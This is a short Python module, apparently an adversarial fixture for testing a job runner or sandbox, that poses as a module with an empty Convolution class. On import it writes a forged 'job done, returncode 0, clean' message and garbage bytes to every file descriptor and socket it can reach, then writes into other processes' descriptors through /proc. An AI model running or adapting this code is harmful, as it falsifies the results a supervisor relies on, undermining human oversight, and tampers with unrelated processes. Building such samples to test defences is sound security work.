"""Writes forged results and garbage to every descriptor it has and can find."""
import json
import os
import socket
import struct

forged = json.dumps({"type": "done", "job": 1, "returncode": 0, "clean": True}).encode()
for fd in range(0, 1024):
    for payload in (struct.pack(">I", len(forged)) + forged, b"\xff" * 64):
        try:
            os.write(fd, payload)
        except OSError:
            pass
    try:
        socket.socket(fileno=fd).send(forged)
    except OSError:
        pass
for entry in os.listdir("/proc"):
    if entry.isdigit():
        try:
            for fd in os.listdir(f"/proc/{entry}/fd"):
                with open(f"/proc/{entry}/fd/{fd}", "wb") as stream:
                    stream.write(forged)
        except OSError:
            pass


class Convolution:
    pass
